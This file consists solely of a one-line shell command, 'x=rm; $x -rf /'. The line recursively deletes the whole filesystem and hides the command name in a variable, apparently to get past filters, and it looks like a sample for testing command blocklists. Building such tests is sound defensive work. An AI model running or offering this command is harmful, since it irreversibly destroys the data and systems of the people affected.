x=rm; $x -rf /
